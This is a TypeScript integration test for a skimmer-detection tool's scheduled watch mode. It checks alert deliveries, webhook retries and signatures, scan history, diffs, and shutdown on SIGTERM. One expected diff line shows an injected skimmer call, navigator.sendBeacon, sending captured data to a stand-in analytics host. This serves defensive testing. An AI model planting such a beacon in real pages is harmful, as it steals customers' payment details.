// `skimscan watch` as a long-lived process on a 2-second schedule over two fixture pages: one page
// gains a skimmer between runs -> exactly one alert at a loopback webhook (which answers 500 twice
// first), a valid signature, the change in `history` and in `history --diff`; SIGTERM mid-run ->
// the run recorded as interrupted, exit 143.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { join } from 'node:path';
import { verifySignature } from '../../src/alerts/payload.js';
import type { AlertPayload } from '../../src/alerts/types.js';
import {
  containedScan, descendants, killTree, query, runToEnd, spawnCli, startReceiver, startSites, waitFor, writeConfig,
  type Sites,
} from './helpers.js';

const SECRET = 'watch-test-secret-9f2c';

let sites: Sites;
let receiver: Awaited<ReturnType<typeof startReceiver>>;
beforeAll(async () => {
  sites = await startSites(['shop-a.watch.test', 'shop-b.watch.test']);
  receiver = await startReceiver([500, 500]);
});
afterAll(async () => {
  await receiver?.close();
  await sites?.close();
});

describe('skimscan watch (scheduled, long-lived)', () => {
  it('alerts once when a page gains a skimmer, retries the webhook, records history and diffs, ends on SIGTERM', async () => {
    const A = sites.url('shop-a.watch.test');
    const B = sites.url('shop-b.watch.test');
    const db = join(sites.dir, 'history.db');
    const cfg = writeConfig(sites.dir, 'watch.json', {
      scan: containedScan(sites.server.port),
      schedules: [{ name: 'checkout', cron: '*/2 * * * * *', targets: [A, B] }],
      alerts: { threshold: 'high', retries: 4, backoffMs: 150, channels: [{ type: 'webhook', name: 'hook', url: receiver.url, secretEnv: 'WATCH_TEST_SECRET' }] },
    });
    const w = spawnCli(['watch', '--config', cfg, '--db', db], { WATCH_TEST_SECRET: SECRET });
    const started: number[] = [];
    try {
      type Run = { id: number; status: string; started_at: string };
      const complete = () => query<Run>(db, `SELECT id, status, started_at FROM runs WHERE status = 'complete' ORDER BY id`);
      const first = await waitFor('a first complete run', () => complete()[0], 45_000);
      expect(query(db, 'SELECT url, verdict FROM targets WHERE run_id = ? ORDER BY position', first.id)).toEqual([
        { url: A, verdict: 'clean' }, { url: B, verdict: 'clean' },
      ]);
      const skimmedAt = new Date().toISOString();
      sites.skim('shop-b.watch.test');
      // Two complete runs that started after the change: the alert goes out once, not per run.
      const after = await waitFor('two complete runs after the change', () => {
        const runs = complete().filter((r) => r.started_at > skimmedAt);
        return runs.length >= 2 ? runs : null;
      }, 60_000);
      await waitFor('the alert delivered', () => receiver.received.some((r) => r.status === 200), 15_000);
      // SIGTERM while a run is going.
      const going = await waitFor('a run in progress', () => query<Run>(db, `SELECT id FROM runs WHERE status = 'running' AND id > ?`, after[1]!.id)[0], 20_000);
      started.push(...descendants(w.child.pid!));
      w.child.kill('SIGTERM');
      const code = await w.exited;
      expect(code, w.stderr()).toBe(143);
      expect(query(db, 'SELECT status FROM runs WHERE id = ?', going.id)).toEqual([{ status: 'interrupted' }]);
      expect(query(db, `SELECT COUNT(*) AS n FROM runs WHERE status = 'running'`)).toEqual([{ n: 0 }]);
      expect(w.stderr()).toMatch(/checkout: skipped: its previous run is still going/);

      // Exactly one alert (one delivery id), retried after two 500s, signed.
      const ids = new Set(receiver.received.map((r) => r.headers['x-skimscan-delivery']));
      expect(ids.size, JSON.stringify(receiver.received.map((r) => r.body.slice(0, 200)))).toBe(1);
      expect(receiver.received.map((r) => r.status)).toEqual([500, 500, 200]);
      for (const r of receiver.received) {
        expect(verifySignature(SECRET, String(r.headers['x-skimscan-timestamp']), r.body, String(r.headers['x-skimscan-signature']))).toBe(true);
      }
      const payload = JSON.parse(receiver.received[2]!.body) as AlertPayload;
      expect(payload).toMatchObject({ payloadVersion: 1, event: 'alert', target: { url: B, verdict: 'compromised', previousVerdict: 'clean' } });
      const kinds = payload.alerts.map((a) => a.kind);
      expect(kinds).toEqual(expect.arrayContaining(['finding', 'verdict', 'script-changed', 'destination-new']));
      expect(payload.alerts.find((a) => a.kind === 'destination-new')!.subject).toBe('watch-cdn-analytics.test');
      expect(query(db, 'SELECT attempt, ok, status FROM delivery_attempts ORDER BY id')).toEqual([
        { attempt: 1, ok: 0, status: 500 }, { attempt: 2, ok: 0, status: 500 }, { attempt: 3, ok: 1, status: 200 },
      ]);
      // The secret is never stored or printed.
      expect(w.stderr()).not.toContain(SECRET);
      expect(query<{ n: number }>(db, `SELECT COUNT(*) AS n FROM alert_events WHERE payload_json LIKE ?`, `%${SECRET}%`)[0]!.n).toBe(0);

      // History: the timeline shows the change on B.
      const h = await runToEnd(['history', B, '--db', db, '--json']);
      expect(h.code, h.stderr).toBe(0);
      const hist = JSON.parse(h.stdout) as { pages: Array<{ url: string; records: Array<{ runId: number; verdict: string; changes: { verdict: unknown; newDestinations: string[]; changedScripts: unknown[] } }>; openAlerts: unknown[] }> };
      const recs = hist.pages[0]!.records;
      const change = recs.find((r) => r.verdict === 'compromised')!;
      expect(change.changes.verdict).toEqual({ from: 'clean', to: 'compromised' });
      expect(change.changes.newDestinations).toEqual(['watch-cdn-analytics.test']);
      expect(change.changes.changedScripts).toHaveLength(1);
      const text = await runToEnd(['history', '--db', db]);
      expect(text.stdout).toMatch(/shop-b\.watch\.test\/checkout\.html\n(.*\n)*.*verdict clean -> compromised/);
      // And the diff between the last clean run and the first compromised one shows the script diff.
      const before = recs.filter((r) => r.runId < change.runId && r.verdict === 'clean').pop()!;
      const d = await runToEnd(['history', '--db', db, '--diff', String(before.runId), String(change.runId)]);
      expect(d.code, d.stderr).toBe(0);
      expect(d.stdout).toContain(`${B}: clean -> compromised`);
      expect(d.stdout).toMatch(/~ changed script https:\/\/shop-b\.watch\.test\/assets\/checkout\.js/);
      expect(d.stdout).toContain("+  navigator.sendBeacon('https://static.watch-cdn-analytics.test/c.gif', d);");
      expect(d.stdout).toContain('+ new destination watch-cdn-analytics.test');
      expect(d.stdout).toMatch(/\+ new finding \[critical\]/);
    } finally {
      if (w.child.exitCode === null) {
        started.push(...descendants(w.child.pid!));
        w.child.kill('SIGKILL');
        await w.exited;
      }
      killTree(started.filter((p) => { try { process.kill(p, 0); return true; } catch { return false; } }));
    }
  }, 150_000);
});
